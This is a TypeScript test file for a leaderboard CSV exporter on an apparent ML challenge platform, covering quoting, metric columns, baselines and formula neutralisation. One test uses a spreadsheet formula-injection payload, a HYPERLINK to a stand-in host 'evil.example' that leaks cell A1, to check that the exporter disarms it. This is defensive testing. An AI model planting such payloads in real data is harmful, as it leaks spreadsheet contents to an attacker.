import { describe, expect, it } from 'vitest';
import type { LeaderboardDto, LeaderboardEntryDto } from '@/lib/shared/dto/leaderboard-dto';
import { getLeaderboardCsvColumns, getLeaderboardExportFileName, neutraliseSpreadsheetFormula, toCsvField, toLeaderboardCsv } from './leaderboard-export';

/** A strict RFC 4180 reader, independent of the writer, so the tests check what a spreadsheet would read. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') {
        quoted = false;
        i += 1;
        continue;
      }
      field += c;
      i += 1;
      continue;
    }
    if (c === '"' && field === '') {
      quoted = true;
      i += 1;
    } else if (c === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      field += c;
      i += 1;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}

const value = (v: number | null, lo: number | null = null, hi: number | null = null) => ({ value: v, ciLow: lo, ciHigh: hi });

function entry(overrides: Partial<LeaderboardEntryDto>): LeaderboardEntryDto {
  return {
    rank: 1,
    tieGroup: 1,
    rankInterval: [1, 2],
    userName: 'Ada',
    teamName: null,
    isYou: false,
    isBaseline: false,
    selection: null,
    submissionId: 's1',
    submittedAt: '2026-03-01T10:00:00.000Z',
    entries: 3,
    isBrowserBaseline: false,
    values: { ams_best: value(3.1, 2.9, 3.3), auc: value(0.91, 0.9, 0.92) },
    robustness: { ams_best: value(0.04, 0.03, 0.05) },
    ...overrides,
  };
}

function board(rows: LeaderboardEntryDto[]): LeaderboardDto {
  return {
    challengeSlug: 'higgs-tautau-toy',
    phaseKey: 'open',
    split: 'public',
    isPrivateRevealed: false,
    phaseTitle: 'Open phase',
    phases: [{ key: 'open', title: 'Open phase', state: 'open' }],
    metrics: [
      { id: 'ams_best', label: 'AMS (best)', direction: 'maximize', target: null, directionText: 'higher is better', directionArrow: '↑', primary: true, precision: 4 },
      { id: 'auc', label: 'ROC AUC', direction: 'maximize', target: null, directionText: 'higher is better', directionArrow: '↑', primary: false, precision: 4 },
    ],
    robustnessMetrics: [{ id: 'ams_best', label: 'AMS (best)', direction: 'maximize', target: null, directionText: 'higher is better', directionArrow: '↑', primary: true, precision: 4 }],
    variations: [{ name: 'jes_up', label: 'JES up' }],
    rows,
  };
}

function recordsOf(csv: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(csv);
  return rows.map((cells) => Object.fromEntries((header ?? []).map((name, k) => [name, cells[k] ?? ''])));
}

describe('toLeaderboardCsv', () => {
  it('neutralises a participant name that a spreadsheet would run as a formula, and keeps it readable', () => {
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
    const csv = toLeaderboardCsv(board([entry({ userName: name })]));
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
    const [row] = recordsOf(csv);
    expect(row?.participant).toBe(`'${name}`);
  });

  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '\t=1', '\r=1'])('prefixes a text cell starting with %j with a quote', (text) => {
    const [row] = recordsOf(toLeaderboardCsv(board([entry({ userName: text, teamName: text })])));
    expect(row?.participant).toBe(`'${text}`);
    expect(row?.team).toBe(`'${text}`);
  });

  it('leaves ordinary names and numbers alone, including negative scores', () => {
    const rows = [entry({ userName: 'Zoë = best', values: { ams_best: value(-1.25, -1.5, -1), auc: value(0.5) } })];
    const [row] = recordsOf(toLeaderboardCsv(board(rows)));
    expect(row?.participant).toBe('Zoë = best');
    expect(row?.ams_best).toBe('-1.25');
    expect(row?.ams_best_ci_low).toBe('-1.5');
  });

  it('quotes commas, quotes and line breaks so every row keeps its column count', () => {
    const rows = [entry({ userName: 'Smith, "Jo"\nline two', teamName: 'Team, A' }), entry({ userName: 'Plain', rank: 2 })];
    const csv = toLeaderboardCsv(board(rows));
    const parsed = parseCsv(csv);
    expect(parsed).toHaveLength(3);
    for (const cells of parsed) expect(cells).toHaveLength(getLeaderboardCsvColumns(board([])).length);
    const [first] = recordsOf(csv);
    expect(first?.participant).toBe('Smith, "Jo"\nline two');
    expect(first?.team).toBe('Team, A');
  });

  it('has a value, ci_low and ci_high column per metric, robustness with its interval, the tie group and the rank interval', () => {
    const csv = toLeaderboardCsv(board([entry({})]));
    const [header] = parseCsv(csv);
    expect(header).toEqual([
      'rank',
      'rank_interval_best',
      'rank_interval_worst',
      'tie_group',
      'participant',
      'team',
      'organiser_baseline',
      'browser_baseline',
      'selection',
      'entries',
      'submitted_at',
      'ams_best',
      'ams_best_ci_low',
      'ams_best_ci_high',
      'auc',
      'auc_ci_low',
      'auc_ci_high',
      'ams_best_robustness',
      'ams_best_robustness_ci_low',
      'ams_best_robustness_ci_high',
    ]);
    const [row] = recordsOf(csv);
    expect(row).toMatchObject({
      rank: '1',
      rank_interval_best: '1',
      rank_interval_worst: '2',
      tie_group: '1',
      ams_best: '3.1',
      ams_best_ci_low: '2.9',
      ams_best_ci_high: '3.3',
      auc: '0.91',
      ams_best_robustness: '0.04',
      ams_best_robustness_ci_high: '0.05',
    });
  });

  it('writes an organiser baseline without a rank, missing values empty and an unbounded value as inf', () => {
    const baseline = entry({
      rank: null,
      tieGroup: null,
      rankInterval: null,
      isBaseline: true,
      selection: 'best-public',
      values: { ams_best: value(Infinity, 10, Infinity) },
      robustness: {},
    });
    const [row] = recordsOf(toLeaderboardCsv(board([baseline])));
    expect(row).toMatchObject({
      rank: '',
      rank_interval_best: '',
      tie_group: '',
      organiser_baseline: 'true',
      selection: 'best-public',
      ams_best: 'inf',
      ams_best_ci_high: 'inf',
      auc: '',
      ams_best_robustness: '',
    });
  });

  it('adds the model format, size and inference time per 1 000 events when the board has model submissions', () => {
    const model = { format: 'onnx' as const, sizeBytes: 5920, runtime: 'onnxruntime-node 1.31.1', msPerThousandEvents: 2.5, events: 60_000, peakMemoryBytes: 1e8, failureKind: null, hasPredictions: true };
    const csv = toLeaderboardCsv(board([entry({ model }), entry({ rank: 2, submissionId: 's2', model: null })]));
    const [first, second] = recordsOf(csv);
    expect(first).toMatchObject({ model_format: 'onnx', model_size_bytes: '5920', model_ms_per_1000_events: '2.5' });
    expect(second).toMatchObject({ model_format: '', model_size_bytes: '', model_ms_per_1000_events: '' });
    // A board of predictions files keeps its columns.
    expect(toLeaderboardCsv(board([entry({})])).split('\r\n')[0]).not.toContain('model_');
  });

  it('writes only the header for an empty board', () => {
    expect(parseCsv(toLeaderboardCsv(board([])))).toHaveLength(1);
  });
});

describe('toCsvField and neutraliseSpreadsheetFormula', () => {
  it('never turns NaN into a number and leaves an empty string empty', () => {
    expect(toCsvField(Number.NaN)).toBe('');
    expect(toCsvField('')).toBe('');
    expect(neutraliseSpreadsheetFormula('')).toBe('');
  });
});

describe('getLeaderboardExportFileName', () => {
  it('names the challenge, phase and split', () => {
    expect(getLeaderboardExportFileName({ challengeSlug: 'higgs-tautau-toy', phaseKey: 'final', split: 'private' }, 'csv')).toBe(
      'higgs-tautau-toy-final-private-leaderboard.csv',
    );
  });
});
